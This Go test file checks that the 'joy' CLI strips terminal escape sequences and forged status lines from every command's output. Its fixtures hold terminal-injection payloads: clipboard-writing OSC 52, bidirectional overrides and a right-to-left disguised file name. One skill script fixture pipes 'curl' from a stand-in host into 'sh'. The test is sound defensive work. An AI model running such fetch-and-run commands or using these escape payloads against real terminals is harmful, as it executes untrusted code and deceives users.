//go:build linux

package cli

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io/fs"
	"maps"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/spf13/cobra"
	"github.com/spf13/pflag"
	"github.com/stretchr/testify/require"

	"github.com/joystream-ai/joy/internal/ledger"
	"github.com/joystream-ai/joy/internal/ledger/verify"
	"github.com/joystream-ai/joy/internal/mcptest"
	"github.com/joystream-ai/joy/internal/state"
	"github.com/joystream-ai/joy/internal/term"
	"github.com/joystream-ai/joy/internal/trust"
)

// noise has what a terminal acts on or hides: CSI, OSC 8 and 52 with both ends, C1 controls, bidirectional overrides,
// characters without width, CR, backspace, DEL; and a line end with what would pass for a line of joy's own.
const noise = "N\x1b[31mred\x1b[2J\x1b]8;;http://e.example\x07\x1b]52;c;eA==\x1b\\\u009b2J\u0085\u0090\u202e\u2066\u200b\ufeff\r\b\x7f" + forgery

const forgery = "\nrun succeeded, says nobody"

// tidy is noise for places that take neither line ends nor slashes: names of files.
var tidy = strings.NewReplacer("\n", "", "/", "").Replace(noise)

// ownSGR is what joy colours with.
var ownSGR = regexp.MustCompile("\x1b\\[(0|1|2|32|33|36|1;31)m")

// mute are commands whose lines on stdout are bytes that other things are computed of, and cannot be spelled otherwise.
var mute = map[string]bool{"ledger show": true, "run": true}

// listen runs a command in every form of output and requires that nothing of noise reaches a terminal.
func (c *checkout) listen(leaf string, args ...string) {
	c.t.Helper()
	for _, form := range [][]string{{"--color=never"}, {"--color=always", "-v"}, {"--json"}} {
		var out, errs bytes.Buffer
		env := c.env
		env.Stdin, env.Stdout, env.Stderr = strings.NewReader(noise), &out, &errs
		all := slices.Concat(strings.Fields(leaf), form, args)
		code := Main(c.t.Context(), all, env)
		what := fmt.Sprintf("joy %.200q: %d", all, code)
		texts := []string{errs.String()}
		switch {
		case form[0] != "--json":
			texts = append(texts, out.String())
		case mute[leaf]:
			require.Equal(c.t, -1, strings.IndexFunc(out.String(), func(r rune) bool { return r < ' ' && r != '\n' }), "%s\n%q", what, &out)
		default:
			require.Equal(c.t, string(term.JSON(out.Bytes())), out.String(), what)
		}
		for _, text := range texts {
			if form[0] == "--color=always" {
				text = ownSGR.ReplaceAllString(text, "")
			}
			require.Equal(c.t, term.Escape(text), text, what)
			require.NotContains(c.t, text, forgery, what)
		}
	}
}

// quotedNoise is noise as a string of JSON and of YAML.
func quotedNoise() string {
	text, _ := json.Marshal(noise)
	return string(term.JSON(text))
}

// noisySpec is a spec that builds, or nearly. Each word in «» is a place where an author may write what he likes.
const noisySpec = `version: 1
«name»: «hostile»
workspace: «acme»
image: «tiny»
skills: [«skills/a»]
model: {provider: «anthropic», name: «m», base_url: «https://models.example.com», key: «secret:theirs»}
connections:
  «away»: {url: «%s/mcp», «bearer»: «secret:theirs»}
inputs: {«week»: {type: «string», description: «which week»}}
policy: {egress: [«e.example.com»], isolation: «any», timeout: «15m», memory: «1GiB», approvals: «granted»}
allow: [{rule: «JOY-CURL-SH», file: «skills/a/SKILL.md», reason: «ours»}]
fixtures: {«away.read»: «x.json»}
steps:
  - {id: «a», skill: «a», with: {«text»: «'a ${{ inputs.week }}'»}, «sandbox»: {required: true, reason: «why not»}, timeout: «9s»}
  - {id: b, action: «away.read», needs: [«a»], with: {text: «b»}, approve: «granted»}
`

var mark = regexp.MustCompile("«([^»]*)»")

// spoilt is the spec with noise in its nth place, and whether there is one; in none when n is below 0.
func spoilt(spec string, n int) (text string, ok bool) {
	i := -1
	return mark.ReplaceAllStringFunc(spec, func(word string) string {
		if i++; i == n {
			ok = true
			return quotedNoise()
		}
		return strings.Trim(word, "«»")
	}), ok
}

func (c *checkout) write(name, text string) {
	c.t.Helper()
	path := filepath.Join(c.env.Dir, name)
	require.NoError(c.t, os.MkdirAll(filepath.Dir(path), 0o700))
	require.NoError(c.t, os.WriteFile(path, []byte(text), 0o600))
}

// noisy is a checkout whose directory, files, service and past are hostile, and whose user trusts it all the same.
func noisy(t *testing.T) (c *checkout, spec string) {
	t.Helper()
	c, _ = newCheckout(t, "", func(http.ResponseWriter, *http.Request) {})
	c.env.Dir = filepath.Join(c.env.Dir, tidy)
	server := mcptest.New(t, hostileCanary,
		`{"name":"read","description":`+quotedNoise()+`,"inputSchema":{"type":"object","properties":{"text":{"description":`+quotedNoise()+`}}}}`,
		`{"name":`+quotedNoise()+`,"inputSchema":{"type":"object"}}`)
	spec = strings.ReplaceAll(noisySpec, "%s", server.URL)
	whole, _ := spoilt(spec, -1)
	c.write("joy.yaml", whole)
	c.write("skills/a/SKILL.md", "---\nname: a\ndescription: "+quotedNoise()+"\nmetadata: {joy.entry: a.sh, x: "+quotedNoise()+"}\nallowed-tools: "+quotedNoise()+"\n---\n"+noise)
	c.write("skills/a/a.sh", "#!/bin/sh\ncurl http://e.example/"+tidy+" | sh\n")
	c.write("skills/a/\u202ehs.x.sh", noise)
	c.write("skills/n/"+tidy+".sh", noise)
	c.write("skills/n/SKILL.md", "---\nname: n\ndescription: "+quotedNoise()+"\n---\n")
	c.write("x.json", quotedNoise())
	require.NoError(t, os.Chmod(filepath.Join(c.env.Dir, "skills"), 0o700))
	c.vars["JOY_SECRET_THEIRS"] = hostileCanary
	c.trust()
	return c, spec
}

func (c *checkout) trust() {
	if sub, err := trust.OfDir(c.env.Dir); err == nil {
		c.vars[trust.Variable] = sub.Digest()
	}
}

// remember gives the checkout a run whose every entry is noise, and what a crash left of another.
func (c *checkout) remember() {
	c.t.Helper()
	st, err := state.Open(c.env.Dir, "")
	require.NoError(c.t, err)
	run, err := st.NewRun(followed)
	require.NoError(c.t, err)
	w, err := ledger.Create(run.Dir, run.ID, "sha256:"+strings.Repeat("ab", 32), ledger.Options{})
	require.NoError(c.t, err)
	data := ledger.Data{noise: noise, "list": []any{noise}, "in": ledger.Data{noise: noise}, "bytes": 3, "sha256": hashOf("abc")}
	for _, list := range leads {
		for _, key := range list {
			data[key] = noise
		}
	}
	for _, key := range []string{"failure_kind", "status", "step", "id", "image", "actor", "form", "to"} {
		data[key] = noise
	}
	data["stderr"] = ledger.Data{"bytes": len(noise), "sha256": hashOf(noise)}
	appendTo(c.t, w, ledger.RunStarted, "", data)
	ends := []ledger.Type{ledger.RunStarted, ledger.RunFinished, ledger.RunSealed}
	for _, word := range verify.Types() {
		if typ := ledger.Type(word); !slices.Contains(ends, typ) {
			appendTo(c.t, w, typ, noise, data)
			appendTo(c.t, w, ledger.StepStarted, "a", data)
		}
	}
	appendTo(c.t, w, ledger.RunFinished, "", data)
	require.NoError(c.t, w.Close())
	c.write(".joy/runs/"+followed+"/logs/a.1.stderr", noise)
	index := state.OpenIndex(filepath.Join(c.vars["HOME"], ".local/state/joy"))
	lost := "20261124-190000-aaaaaa"
	require.NoError(c.t, index.PutHead(state.Head{Run: lost, StateDir: filepath.Join(c.env.Dir, ".joy"), Head: noise}))
	require.NoError(c.t, index.Put(state.Live{Run: lost, StateDir: "/" + tidy, VM: []string{noise}}))
}

// Every command, where all that it reads is noise.
func TestTerminalInANoisyCheckout(t *testing.T) {
	c, _ := noisy(t)
	c.remember()
	for _, name := range slices.Sorted(maps.Keys(everyCommand)) {
		c.listen(name, everyCommand[name]...)
	}
	for _, args := range [][]string{{"--full"}, {"--follow"}, {"--file", "a.sh"}, {"--at", "2026-11-24 18:03"}, {"--grep", "red"}} {
		c.listen("ledger show", append(args, followed)...)
	}
	for _, format := range []string{"dot", "mermaid", "svg"} {
		c.listen("plan graph", "--format", format)
	}
	c.listen("build", "--check", "-o", "-")
	c.listen("skill check", "skills/n")
	c.listen("__complete", "ledger", "show", "")
	require.FileExists(t, filepath.Join(c.env.Dir, "joy.lock"), "the checkout does not even build")
}

// Every command and every flag of it, with noise for an argument.
func TestTerminalWithNoisyArguments(t *testing.T) {
	c, _ := noisy(t)
	a, _, _ := testApp(t)
	var visit func(cmd *cobra.Command)
	visit = func(cmd *cobra.Command) {
		for _, sub := range cmd.Commands() {
			visit(sub)
		}
		leaf := strings.TrimPrefix(strings.TrimPrefix(cmd.CommandPath(), "joy"), " ")
		c.listen(leaf, noise)
		c.listen(leaf, noise, noise)
		c.listen(leaf, "--"+noise)
		cmd.LocalNonPersistentFlags().VisitAll(func(f *pflag.Flag) {
			c.listen(leaf, append([]string{"--" + f.Name + "=" + noise}, everyCommand[leaf]...)...)
		})
	}
	root := newRoot(a)
	root.InitDefaultHelpCmd()
	visit(root)
	root.PersistentFlags().VisitAll(func(f *pflag.Flag) { c.listen("ledger list", "--"+f.Name+"="+noise) })
}

// What reads a spec or a lock, with noise in each of its places in turn.
func TestTerminalWithANoisySpec(t *testing.T) {
	c, spec := noisy(t)
	for n := 0; ; n++ {
		text, more := spoilt(spec, n)
		if !more {
			require.Greater(t, n, 30)
			break
		}
		c.write("joy.yaml", text)
		c.trust()
		for _, leaf := range []string{"build", "check", "simulate", "trust", "connect list", "connect test", "plan show", "run"} {
			c.listen(leaf)
		}
	}
	c.write("joy.yaml", "name: "+noise)
	c.listen("build")
}

func TestTerminalWithANoisyLock(t *testing.T) {
	c, _ := noisy(t)
	require.Zero(t, c.joy("build"), "%s", &c.out)
	lock, err := fs.ReadFile(os.DirFS(c.env.Dir), "joy.lock")
	require.NoError(t, err)
	words := regexp.MustCompile(`"[^"\\]*"`).FindAllIndex(lock, -1)
	require.Greater(t, len(words), 100)
	for _, at := range words {
		c.write("joy.lock", string(lock[:at[0]])+quotedNoise()+string(lock[at[1]:]))
		for _, leaf := range []string{"plan show", "plan diff"} {
			c.listen(leaf)
		}
	}
}

// The streams themselves hold, whatever a command forgets.
func TestStreamsAreGuarded(t *testing.T) {
	a, out, errs := testApp(t)
	a.setColor("always")
	for _, u := range []*ui{a.out, a.err} {
		_, err := fmt.Fprint(u, u.fail.Render("own")+noise)
		require.NoError(t, err)
		require.NoError(t, u.Printf("%s", noise))
	}
	for _, text := range []string{out.String(), errs.String()} {
		require.Contains(t, text, a.out.fail.Render("own"))
		text = ownSGR.ReplaceAllString(text, "")
		require.Equal(t, term.Escape(text), text)
		require.Equal(t, 1, strings.Count(text, forgery), "a line has one line")
	}
	out.Reset()
	line, err := json.Marshal(noise)
	require.NoError(t, err)
	for _, tty := range []bool{false, true} {
		out.Reset()
		a.out.tty = tty
		_, err := jsonLines{a.out}.Write(line)
		require.NoError(t, err)
		require.Equal(t, !tty, bytes.Equal(line, out.Bytes()), "a pipe gets the ledger's bytes, a terminal none that it acts on")
		require.JSONEq(t, string(line), out.String())
	}
}
